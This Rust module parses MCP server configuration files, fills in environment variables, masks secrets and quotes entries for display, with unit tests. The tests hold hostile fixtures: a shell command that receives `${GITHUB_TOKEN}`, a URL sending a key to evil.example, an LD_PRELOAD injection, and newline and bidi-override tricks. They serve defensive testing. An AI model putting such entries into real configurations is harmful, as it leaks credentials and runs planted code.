//! Which servers there are: files in the shape that other programs have too, `{"mcpServers": {NAME: {...}}}`.
//!
//! | key | for | what |
//! | --- | --- | --- |
//! | `command`, `args`, `env`, `cwd` | stdio | the program that is started, and what it is given |
//! | `url`, `headers`, `type` | streamable HTTP | where it is (`type` `http` or `streamable-http`, may be left out) |
//! | `url`, `headers`, `type` | HTTP+SSE | where its stream of events is (`type` `sse`): the transport of revision 2024-11-05 |
//! | `timeout` | all | seconds that a call may take, 60 if not given |
//! | `disabled` | all | true: not used |
//! | `autoApprove` | all | names of tools that run unasked, if the server says that they only read |
//!
//! `${NAME}` and `${NAME:-DEFAULT}` in values stand for variables of the person's environment; they are filled in where a
//! server is used ([`Config::fill`]), and not where it is shown. Paths of a project's file are meant from its folder. Other
//! keys are left alone: other programs read the same files.

use caro_policy::is_hidden;
use serde::Deserialize;
use serde_json::{Map, Value};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::time::Duration;

/// How long a call may take if the file says nothing.
const TIMEOUT: Duration = Duration::from_secs(60);
/// The largest file that is read, bytes.
const LARGEST: u64 = 1 << 20;

/// Where a file is from.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Origin {
    /// The person's own configuration.
    User,
    /// The project's folder: somebody else may have written it.
    Project,
}

/// A server that may be used.
#[derive(Clone, PartialEq, Eq)]
pub struct Config {
    /// Its name in the file.
    pub name: String,
    /// How it is reached, once [`Config::fill`] was called with the variables filled in. Not for a person's eyes: see
    /// [`Config::shown`].
    pub reach: Reach,
    /// How that stands in the file; nothing of a server that is in none.
    pub written: Written,
    /// How long a call may take.
    pub timeout: Duration,
    /// True if it is not to be used.
    pub disabled: bool,
    /// Tools that the person lets run unasked. Of a project's file this does not count.
    pub approved: Vec<String>,
    /// Where it is from.
    pub origin: Origin,
}

/// An entry as it stands in its file.
#[derive(Clone, Default, PartialEq, Eq)]
pub struct Written {
    /// Without its variables filled in.
    reach: Option<Reach>,
    /// The person's variables that are, with their values.
    variables: Vec<(String, String)>,
    /// The file.
    file: PathBuf,
}

/// How a server is reached.
#[derive(Clone, PartialEq, Eq)]
pub enum Reach {
    /// A program that is started, and talked with over its standard streams.
    Stdio {
        /// The program: a name on PATH, or a path.
        command: String,
        /// Its arguments.
        args: Vec<String>,
        /// Variables on top of the few that every child gets.
        env: Vec<(String, String)>,
        /// Where it runs: below [`Config::base`], which it is if not given.
        cwd: Option<PathBuf>,
    },
    /// An address.
    Http {
        /// `http://` or `https://`.
        url: String,
        /// Sent with every request.
        headers: Vec<(String, String)>,
    },
    /// The address of a stream of events, whose first one names the address that messages are sent to.
    Sse {
        /// `http://` or `https://`.
        url: String,
        /// Sent with every request.
        headers: Vec<(String, String)>,
    },
}

impl Reach {
    /// True if it is reached over the network.
    pub(super) fn is_address(&self) -> bool {
        !matches!(self, Self::Stdio { .. })
    }
}

/// Variables whose values everybody may know.
const OPEN: &[&str] = &[
    "HOME",
    "USER",
    "LOGNAME",
    "PATH",
    "PWD",
    "SHELL",
    "LANG",
    "TMPDIR",
    "TEMP",
    "USERPROFILE",
    "APPDATA",
    "LOCALAPPDATA",
];
/// What is shorter is no secret, and would be found everywhere.
const SHORTEST: usize = 6;

impl Config {
    /// What is started or asked, for a person, as it stands in the file: variables are not filled in. Of a project's file
    /// everything is shown, for all of it is agreed to; of the person's own, the values of variables and headers that are
    /// written out are not.
    pub fn shown(&self) -> String {
        let value = |text: &str| match self.origin {
            Origin::User if !text.contains("${") => "...".to_owned(),
            _ => quoted(text),
        };
        match self.written.reach.as_ref().unwrap_or(&self.reach) {
            Reach::Stdio { command, args, env, cwd } => {
                let env: String = env.iter().map(|(name, text)| format!("{}={} ", one(name), value(text))).collect();
                let args: String = args.iter().map(|a| format!(" {}", quoted(a))).collect();
                let cwd = cwd.as_ref().map(|cwd| format!(" (in {})", one(&cwd.to_string_lossy()))).unwrap_or_default();
                format!("{env}{}{args}{cwd}", quoted(command))
            }
            Reach::Http { url, headers } | Reach::Sse { url, headers } => {
                let headers = headers.iter().map(|(name, text)| format!("{}: {}", one(name), value(text)));
                let headers = headers.collect::<Vec<_>>().join(", ");
                if headers.is_empty() { one(url) } else { format!("{} ({headers})", one(url)) }
            }
        }
    }

    /// The person's variables that it is given where they are set, by name.
    pub fn given(&self) -> Vec<String> {
        let mut used = Vec::new();
        if let Some(written) = &self.written.reach {
            // what cannot be filled in, whatever the values, is never started
            let _ = filled(written, &|_| Some("any".into()), &mut used);
        }
        let mut names: Vec<String> = used.into_iter().map(|(name, _)| one(&name)).collect();
        names.sort_unstable();
        names.dedup();
        names
    }

    /// Fills in the variables of one that is to be used. `variable` is asked for what `${NAME}` stands for.
    ///
    /// # Errors
    /// If a variable is not set, or the address is none.
    pub fn fill(&mut self, variable: &dyn Fn(&str) -> Option<String>) -> Result<(), ConfigError> {
        let Some(written) = &self.written.reach else { return Ok(()) };
        let mut variables = Vec::new();
        let reach = filled(written, variable, &mut variables);
        self.reach = reach.map_err(|why| why.of(&self.name, &self.written.file))?;
        self.written.variables = variables;
        Ok(())
    }

    /// The folder that its paths are meant from: that of a project's file, else the working folder.
    pub fn base<'a>(&'a self, root: &'a Path) -> &'a Path {
        let folder = self.written.file.parent().filter(|_| self.origin == Origin::Project);
        folder.unwrap_or(root)
    }

    /// Values that no event may hold: what is given in variables and headers, and whatever is filled in anywhere.
    pub fn secrets(&self) -> impl Iterator<Item = String> + '_ {
        let (Reach::Stdio { env: pairs, .. } | Reach::Http { headers: pairs, .. } | Reach::Sse { headers: pairs, .. }) =
            &self.reach;
        // `Bearer abc`: the word before is no secret, and the server may echo the rest alone
        pairs
            .iter()
            .filter(|(name, _)| !OPEN.contains(&name.as_str()))
            .flat_map(|(_, value)| [value.as_str(), value.rsplit(' ').next().unwrap_or_default()])
            .chain(self.filled_in().map(|(_, value)| value))
            .map(str::to_owned)
    }

    /// The text with what was filled in taken out again, for a message.
    pub fn masked(&self, text: &str) -> String {
        self.filled_in().fold(text.to_owned(), |text, (name, value)| text.replace(value, &format!("${{{name}}}")))
    }

    fn filled_in(&self) -> impl Iterator<Item = (&str, &str)> {
        let all = self.written.variables.iter().map(|(name, value)| (name.as_str(), value.as_str()));
        all.filter(|(name, value)| value.len() >= SHORTEST && !OPEN.contains(name))
    }
}

/// A word as it would be written in a shell, so that nobody mistakes where it ends.
fn quoted(text: &str) -> String {
    let plain = |c: char| c.is_alphanumeric() || "-_./:=,@%+${}".contains(c);
    if !text.is_empty() && text.chars().all(plain) {
        text.to_owned()
    } else if !text.chars().any(is_unseen) {
        format!("'{}'", text.replace('\'', r"'\''"))
    } else {
        let written = text.chars().map(|c| match c {
            '\n' => r"\n".to_owned(),
            '\\' | '\'' => format!("\\{c}"),
            c if c.is_ascii() && is_unseen(c) => format!("\\x{:02x}", u32::from(c)),
            c if is_unseen(c) => format!("\\U{:08x}", u32::from(c)),
            c => c.to_string(),
        });
        format!("$'{}'", written.collect::<String>())
    }
}

/// What is no word of a shell, in one piece: as it is, but for what would be seen as more than that.
fn one(text: &str) -> String {
    if text.chars().any(|c| c.is_whitespace() || is_unseen(c)) { quoted(text) } else { text.to_owned() }
}

/// A character that would be seen as something else, or not at all.
fn is_unseen(c: char) -> bool {
    c.is_control() || is_hidden(c)
}

/// Why a file, or a server of it, cannot be used.
#[derive(Debug, thiserror::Error)]
pub enum ConfigError {
    /// The file cannot be read.
    #[error("could not read {path}: {reason}")]
    Read {
        /// The file.
        path: String,
        /// Why.
        reason: String,
    },
    /// It is no such file.
    #[error("{path} is no list of MCP servers: {reason}")]
    Form {
        /// The file.
        path: String,
        /// Why.
        reason: String,
    },
    /// One server is wrong; the others are used.
    #[error("the MCP server `{server}` of {path} is left out: {reason}")]
    Server {
        /// The server.
        server: String,
        /// The file.
        path: String,
        /// Why.
        reason: String,
        /// What to do about it.
        advice: &'static str,
    },
    /// It is given a variable that is not there; the others are used.
    #[error("the MCP server `{server}` of {path} is left out: the variable {name} is not set")]
    Unset {
        /// The server.
        server: String,
        /// The file.
        path: String,
        /// The variable.
        name: String,
    },
}

/// Why one server is left out.
enum Wrong {
    /// A variable is not set.
    Unset(String),
    /// It is not said, or not clearly, how it is reached.
    Unreached(String),
    /// Anything else.
    Reason(String),
}

impl Wrong {
    /// The error of that server of that file.
    fn of(self, server: &str, file: &Path) -> ConfigError {
        let (server, path) = (server.to_owned(), file.display().to_string());
        match self {
            Self::Unset(name) => ConfigError::Unset { server, path, name },
            Self::Unreached(reason) => {
                let advice = "give it a `command` (with `args`, `env`) or a `url` (with `headers`)";
                ConfigError::Server { server, path, reason, advice }
            }
            Self::Reason(reason) => {
                let advice = "correct that in its entry, or take the entry out";
                ConfigError::Server { server, path, reason, advice }
            }
        }
    }
}

impl From<String> for Wrong {
    fn from(reason: String) -> Self {
        Self::Reason(reason)
    }
}

impl ConfigError {
    /// What to do next.
    pub fn hint(&self) -> &'static str {
        match self {
            Self::Read { .. } => "check that the file may be read and is not too large",
            Self::Form { .. } => {
                r#"it looks like {"mcpServers": {"time": {"command": "uvx", "args": ["mcp-server-time"]}}}"#
            }
            Self::Unset { .. } => {
                "export that variable, give it a value in the file (`${NAME:-DEFAULT}`), or set `disabled` to true"
            }
            Self::Server { advice, .. } => advice,
        }
    }
}

/// What a server's entry may say.
#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Entry {
    command: Option<String>,
    #[serde(default)]
    args: Vec<String>,
    #[serde(default)]
    env: BTreeMap<String, String>,
    cwd: Option<PathBuf>,
    url: Option<String>,
    #[serde(default)]
    headers: BTreeMap<String, String>,
    #[serde(rename = "type")]
    kind: Option<String>,
    timeout: Option<f64>,
    #[serde(default)]
    disabled: bool,
    #[serde(default)]
    auto_approve: Vec<String>,
}

/// The text of a file of servers; `None` where there is none.
///
/// # Errors
/// If it cannot be read, is too large, or no text.
pub fn text(path: &Path) -> Result<Option<String>, ConfigError> {
    let failed = |reason: String| ConfigError::Read { path: path.display().to_string(), reason };
    match std::fs::metadata(path) {
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => return Ok(None),
        Err(e) => return Err(failed(e.to_string())),
        Ok(meta) if !meta.is_file() => return Err(failed("it is no file".into())),
        Ok(meta) if meta.len() > LARGEST => return Err(failed(format!("it has {} bytes", meta.len()))),
        Ok(_) => {}
    }
    caro_base::files::read_text(path, LARGEST).map(Some).map_err(|e| failed(e.to_string()))
}

/// The servers of a file as they stand in it, and what is wrong with others.
///
/// # Errors
/// If it is no such file at all.
pub fn parse(text: &str, path: &Path, origin: Origin) -> Result<(Vec<Config>, Vec<ConfigError>), ConfigError> {
    let form = |reason: String| ConfigError::Form { path: path.display().to_string(), reason };
    let text = text.trim_start_matches('\u{feff}');
    let document: Value = serde_json::from_str(text).map_err(|e| form(e.to_string()))?;
    let servers: &Map<String, Value> = document
        .get("mcpServers")
        .and_then(Value::as_object)
        .ok_or_else(|| form("it has no object `mcpServers`".into()))?;
    let (mut all, mut wrong) = (Vec::new(), Vec::new());
    for (name, entry) in servers {
        match server(name, entry, path, origin) {
            Ok(config) => all.push(config),
            Err(why) => wrong.push(why.of(name, path)),
        }
    }
    Ok((all, wrong))
}

fn server(name: &str, entry: &Value, file: &Path, origin: Origin) -> Result<Config, Wrong> {
    if name.trim().is_empty() || name.chars().count() > 64 || name.contains(char::is_control) {
        return Err("its name is empty, longer than 64 characters or not printable".to_owned().into());
    }
    let entry = Entry::deserialize(entry).map_err(|e| e.to_string())?;
    let kind = entry.kind.as_deref();
    let pairs = |map: BTreeMap<String, String>| map.into_iter().collect();
    let written = match (entry.command, entry.url) {
        (Some(command), None) if matches!(kind, None | Some("stdio")) => {
            Reach::Stdio { command, args: entry.args, env: pairs(entry.env), cwd: entry.cwd }
        }
        (None, Some(url)) if matches!(kind, None | Some("http" | "streamable-http" | "streamableHttp")) => {
            Reach::Http { url, headers: pairs(entry.headers) }
        }
        (None, Some(url)) if kind == Some("sse") => Reach::Sse { url, headers: pairs(entry.headers) },
        (Some(_), Some(_)) => return Err(Wrong::Unreached("it has both a `command` and a `url`".into())),
        (None, None) => return Err(Wrong::Unreached("it has neither a `command` nor a `url`".into())),
        _ => return Err(Wrong::Unreached(format!("its `type` {} does not fit", kind.unwrap_or_default()))),
    };
    let timeout = match entry.timeout {
        None => TIMEOUT,
        Some(seconds) if (0.1..=3600.0).contains(&seconds) => Duration::from_secs_f64(seconds),
        Some(other) => return Err(format!("its `timeout` {other} is not in seconds between 0.1 and 3600").into()),
    };
    let approved = if origin == Origin::User { entry.auto_approve } else { Vec::new() };
    Ok(Config {
        name: name.into(),
        reach: written.clone(),
        written: Written { reach: Some(written), variables: Vec::new(), file: file.to_owned() },
        timeout,
        disabled: entry.disabled,
        approved,
        origin,
    })
}

/// The same with its variables filled in, which are noted in `used`.
fn filled(
    written: &Reach,
    variable: &dyn Fn(&str) -> Option<String>,
    used: &mut Vec<(String, String)>,
) -> Result<Reach, Wrong> {
    let noted = std::cell::RefCell::new(used);
    let ask = |name: &str| {
        let value = variable(name).filter(|value| !value.is_empty())?;
        noted.borrow_mut().push((name.to_owned(), value.clone()));
        Some(value)
    };
    let full = |text: &String| expand(text, &ask);
    let pairs = |all: &Vec<(String, String)>| -> Result<Vec<(String, String)>, Wrong> {
        all.iter().map(|(name, value)| Ok((name.clone(), full(value)?))).collect()
    };
    Ok(match written {
        Reach::Stdio { command, args, env, cwd } => Reach::Stdio {
            command: full(command)?,
            args: args.iter().map(full).collect::<Result<_, _>>()?,
            env: pairs(env)?,
            cwd: cwd.as_ref().map(|cwd| expand(&cwd.to_string_lossy(), &ask)).transpose()?.map(PathBuf::from),
        },
        Reach::Http { url, headers } => Reach::Http { headers: pairs(headers)?, url: address(url, &ask)? },
        Reach::Sse { url, headers } => Reach::Sse { headers: pairs(headers)?, url: address(url, &ask)? },
    })
}

/// An address with its variables filled in.
fn address(written: &str, variable: &dyn Fn(&str) -> Option<String>) -> Result<String, Wrong> {
    let url = expand(written, variable)?;
    if !url.starts_with("http://") && !url.starts_with("https://") {
        return Err(format!("`{written}` is no http:// or https:// address").into());
    }
    Ok(url)
}

/// The text with its variables filled in.
fn expand(text: &str, variable: &dyn Fn(&str) -> Option<String>) -> Result<String, Wrong> {
    let mut full = String::new();
    let mut rest = text;
    while let Some(at) = rest.find("${") {
        let (before, after) = (&rest[..at], &rest[at + 2..]);
        let (inside, end) = after.split_once('}').ok_or_else(|| format!("`{text}` has a ${{ without its }}"))?;
        let (name, default) = match inside.split_once(":-") {
            Some((name, default)) => (name, Some(default)),
            None => (inside, None),
        };
        let value = variable(name).or_else(|| default.map(str::to_owned));
        full.push_str(before);
        full.push_str(&value.ok_or_else(|| Wrong::Unset(name.to_owned()))?);
        rest = end;
    }
    full.push_str(rest);
    Ok(full)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(text: &str, origin: Origin) -> (Vec<Config>, Vec<String>) {
        let variable = |name: &str| (name == "KEY").then(|| "k-123456".to_owned());
        used(text, origin, &variable)
    }

    /// The servers of a file that may be used, those that are not disabled filled in.
    fn used(text: &str, origin: Origin, variable: &dyn Fn(&str) -> Option<String>) -> (Vec<Config>, Vec<String>) {
        let (mut all, mut wrong) = parse(text, Path::new("/here/mcp.json"), origin).unwrap();
        all.retain_mut(|c| c.disabled || c.fill(variable).map_err(|e| wrong.push(e)).is_ok());
        (all, wrong.iter().map(ToString::to_string).collect())
    }

    #[test]
    fn both_kinds_of_servers_are_read_and_variables_filled_in() {
        let text = r#"{"mcpServers": {
            "files": {"command": "npx", "args": ["-y", "x", "${DIR:-.}"], "env": {"TOKEN": "${KEY}"}, "timeout": 5,
                      "autoApprove": ["read"], "unknownToUs": {"a": 1}},
            "web": {"type": "http", "url": "https://host/mcp", "headers": {"Authorization": "Bearer ${KEY}"}},
            "old": {"type": "sse", "url": "https://host/sse", "headers": {"Authorization": "Bearer ${KEY}"}},
            "off": {"command": "x", "disabled": true}}, "other": 1}"#;
        let (all, wrong) = read(text, Origin::User);
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(all.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["files", "web", "old", "off"]);
        let Reach::Sse { url, headers } = &all[2].reach else { panic!() };
        assert_eq!((url.as_str(), headers[0].1.as_str()), ("https://host/sse", "Bearer k-123456"));
        let Reach::Stdio { args, env, .. } = &all[0].reach else { panic!() };
        assert_eq!((args[2].as_str(), env[0].1.as_str()), (".", "k-123456"));
        assert_eq!((all[0].timeout, all[1].timeout), (Duration::from_secs(5), TIMEOUT));
        assert_eq!((all[0].approved.len(), all[3].disabled), (1, true));
        assert_eq!(all[0].shown(), "TOKEN=${KEY} npx -y x ${DIR:-.}");
        assert_eq!((all[0].given(), all[3].given()), (vec!["DIR".to_owned(), "KEY".to_owned()], vec![]));
        assert!(all.iter().all(|c| !c.shown().contains("k-123456")));
        assert!(all[1..3].iter().all(|c| c.secrets().any(|s| s == "k-123456")), "without its `Bearer`");
        // what a project says about its own tools is no permission
        assert_eq!(read(text, Origin::Project).0[0].approved, [""; 0]);
    }

    #[test]
    fn what_is_agreed_to_is_shown_whole_and_what_is_hidden_stays_so() {
        let text = r#"{"mcpServers": {
            "a": {"command": "node", "args": ["s.js", "--token", "${KEY}", "two words"], "cwd": "sub",
                  "env": {"LD_PRELOAD": "./x.so"}},
            "b": {"url": "https://evil.example/mcp?k=${KEY}", "headers": {"X": "${KEY}", "Y": "literal"}},
            "c": {"command": "x", "args": ["${HOME}"]}}}"#;
        let variable = |name: &str| match name {
            "KEY" => Some("sekrit-123456".to_owned()),
            "HOME" => Some("/home/somebody".to_owned()),
            _ => None,
        };
        let shown = |origin| -> Vec<Config> { used(text, origin, &variable).0 };
        let project = shown(Origin::Project);
        assert_eq!(project[0].shown(), "LD_PRELOAD=./x.so node s.js --token ${KEY} 'two words' (in sub)");
        assert_eq!(project[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: literal)");
        let own = shown(Origin::User);
        assert_eq!(own[0].shown(), "LD_PRELOAD=... node s.js --token ${KEY} 'two words' (in sub)");
        assert_eq!(own[1].shown(), "https://evil.example/mcp?k=${KEY} (X: ${KEY}, Y: ...)");
        for config in project.iter().take(2) {
            assert_eq!(config.given(), ["KEY"]);
            assert!(config.secrets().any(|s| s == "sekrit-123456"), "wherever it was filled in");
            assert_eq!(
                config.masked("no https://evil.example/mcp?k=sekrit-123456"),
                "no https://evil.example/mcp?k=${KEY}"
            );
        }
        assert_eq!(project[2].secrets().count(), 0, "everybody knows where a home is");
        let Reach::Stdio { args, .. } = &project[2].reach else { panic!() };
        assert_eq!(args, &["/home/somebody"]);
    }

    #[test]
    fn whatever_an_entry_holds_it_is_shown_as_one_line() {
        let text = r#"{"mcpServers": {
            "a": {"command": "sh", "args": ["x\nnice  echo 'harmless'\r\\", "\u202ea"], "cwd": "sub\nnice  echo",
                  "env": {"A\nB": "a\nb"}},
            "b": {"url": "https://evil.example/\nnice  echo", "headers": {"X\nY": "a\nb"}},
            "c": {"command": "x", "args": ["${A\nnice:-}"]}}}"#;
        let (all, wrong) = parse(text, Path::new("/repo/.mcp.json"), Origin::Project).unwrap();
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(
            all[0].shown(),
            r"$'A\nB'=$'a\nb' sh $'x\nnice  echo \'harmless\'\x0d\\' $'\U0000202ea' (in $'sub\nnice  echo')"
        );
        assert_eq!(all[1].shown(), r"$'https://evil.example/\nnice  echo' ($'X\nY': $'a\nb')");
        assert_eq!((all[2].shown(), all[2].given()), (r"x $'${A\nnice:-}'".into(), vec![r"$'A\nnice'".into()]));
    }

    #[test]
    fn one_wrong_server_costs_no_other() {
        let text = r#"{"mcpServers": {
            "none": {}, "both": {"command": "a", "url": "http://b"}, "ftp": {"url": "ftp://b"}, "t": {"command": "a", "timeout": 60000},
            "v": {"command": "${NOT_SET}"}, "o": {"command": "a${"}, "n": 5, "s": {"command": "a", "type": "http"},
            "": {"command": "a"}, "good": {"command": "a"}}}"#;
        let (all, wrong) = read(text, Origin::User);
        assert_eq!(all.iter().map(|c| c.name.as_str()).collect::<Vec<_>>(), ["good"]);
        for why in [
            "neither",
            "both",
            "no http://",
            "in seconds",
            "NOT_SET is not set",
            "without its }",
            "invalid type",
            "`type` http does not fit",
            "name is empty",
        ] {
            assert!(wrong.iter().any(|w| w.contains(why)), "{why} in {wrong:#?}");
        }
    }

    #[test]
    fn advice_fits_the_fault() {
        let text =
            r#"{"mcpServers": {"n": {}, "t": {"command": "a", "timeout": -3}, "s": {"command": "a", "type": "sse"}}}"#;
        let (_, wrong) = parse(text, Path::new("mcp.json"), Origin::User).unwrap();
        let hint = |why: &str| wrong.iter().find(|e| e.to_string().contains(why)).unwrap().hint();
        assert!(hint("neither").contains("`url`"));
        assert!(!hint("`timeout` -3 is not").contains("`url`"));
        assert!(hint("`type` sse does not fit").contains("`url`"));
    }

    #[test]
    fn a_variable_that_is_not_set_is_told_as_such_unless_the_server_is_not_used() {
        let text = r#"{"mcpServers": {
            "tracker": {"url": "https://tracker.example/mcp", "headers": {"Authorization": "Bearer ${TRACKER_KEY}"}},
            "off": {"command": "x", "env": {"A": "${TRACKER_KEY}"}, "disabled": true},
            "away": {"url": "${TRACKER_URL}", "disabled": true}}}"#;
        let (mut all, wrong) = parse(text, Path::new("mcp.json"), Origin::User).unwrap();
        assert_eq!((all.len(), wrong.len(), all[1].disabled, all[2].disabled), (3, 0, true, true));
        let unset = all[0].fill(&|_| None).unwrap_err();
        assert!(unset.to_string().ends_with("is left out: the variable TRACKER_KEY is not set"), "{unset}");
        assert!(unset.hint().contains("export") && !unset.hint().contains("`url`"), "{}", unset.hint());
        // whoever tries it all the same tries it with its variables
        all[1].fill(&|_| Some("k-123456".into())).unwrap();
        let Reach::Stdio { env, .. } = &all[1].reach else { panic!() };
        assert_eq!(env[0].1, "k-123456");
        assert!(all[2].fill(&|_| Some("nowhere".into())).unwrap_err().to_string().contains("no http://"));
    }

    #[test]
    fn a_folder_is_filled_in_and_shown_as_it_stands() {
        let text = r#"{"mcpServers": {"a": {"command": "x", "cwd": "${KEY}/sub"}, "b": {"command": "x", "cwd": "${NOT_SET}"}}}"#;
        let (all, wrong) = read(text, Origin::Project);
        let Reach::Stdio { cwd, .. } = &all[0].reach else { panic!() };
        assert_eq!(cwd.as_deref(), Some(Path::new("k-123456/sub")));
        assert_eq!((all[0].shown(), all[0].given()), ("x (in ${KEY}/sub)".into(), vec!["KEY".into()]));
        assert!(all.len() == 1 && wrong[0].contains("NOT_SET is not set"), "{wrong:?}");
    }

    #[test]
    fn what_is_given_later_is_shown_before() {
        let text = r#"{"mcpServers": {
            "evil": {"command": "sh", "args": ["-c", "touch PWNED; exec cat", "${GITHUB_TOKEN}"]},
            "far": {"url": "${URL}", "headers": {"X": "${KEY:-none}"}}}}"#;
        let (all, wrong) = parse(text, Path::new("/repo/.mcp.json"), Origin::Project).unwrap();
        assert!(wrong.is_empty(), "{wrong:?}");
        assert_eq!(all[0].shown(), "sh -c 'touch PWNED; exec cat' ${GITHUB_TOKEN}");
        assert_eq!(all[1].shown(), "${URL} (X: ${KEY:-none})");
        assert_eq!((all[0].given(), all[1].given()), (vec!["GITHUB_TOKEN".into()], vec!["KEY".into(), "URL".into()]));
    }

    #[test]
    fn paths_of_a_project_are_meant_from_its_file() {
        let text = r#"{"mcpServers": {"a": {"command": "./srv.sh"}}}"#;
        let base = |origin| {
            let all = parse(text, Path::new("/repo/.mcp.json"), origin).unwrap().0;
            all[0].base(Path::new("/repo/sub")).to_owned()
        };
        assert_eq!((base(Origin::Project), base(Origin::User)), ("/repo".into(), "/repo/sub".into()));
    }

    #[test]
    fn what_is_no_such_file_says_how_one_looks() {
        for text in ["", "{", "[]", r#"{"servers": {}}"#, r#"{"mcpServers": []}"#] {
            let Err(error) = parse(text, Path::new("x.json"), Origin::User) else { panic!("{text} was read") };
            assert!(error.to_string().contains("x.json is no list") && error.hint().contains("mcpServers"), "{error}");
        }
        assert!(text(Path::new("/nowhere/mcp.json")).unwrap().is_none());
    }
}
